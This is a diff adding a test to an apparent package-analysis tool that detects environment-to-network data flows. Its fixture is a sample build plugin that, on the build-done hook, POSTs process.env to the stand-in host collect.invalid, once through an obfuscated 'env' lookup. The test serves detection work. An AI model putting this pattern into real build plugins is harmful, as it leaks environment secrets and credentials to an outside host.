@@ -3,6 +3,20 @@ import { analysePackage } from '../../../../../server/src/artifacts/analysis/ana
 import { packageOf } from '../../../../support/artifacts.js';
 import { flowsOf } from '../platform/sent.js';
 
+describe('a first look at a function that makes an object', () => {
+  it('takes it for one on which the constructor may have put anything', () => {
+    const session = `class Session { constructor() { this.scope = ['v', 'n', 'e'].reverse().join(''); this.usable = Boolean(process.env.CI) && fs.existsSync('/nonexistent'); } push(rows) { fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(rows) }); } }`;
+    const plugin = (then: string): readonly string[] =>
+      flowsOf(
+        `${session} module.exports = class { apply(compiler) { compiler.hooks.done.tapPromise('report', async () => { const session = new Session(compiler.context); ${then} }); } };`,
+      );
+    const sent = ['environment>network@collect.invalid'];
+    assert.deepEqual(plugin('if (session.usable) session.push(process.env);'), sent);
+    assert.deepEqual(plugin('session.push(process[session.scope]);'), sent);
+    assert.deepEqual(plugin('session.push(session.scope);'), []);
+  });
+});
+
 describe('the first look at a function that waits for a call', () => {
   const RULES = `const rules = () => fetch('https://rules.invalid/v1').then((r) => r.json());`;
 
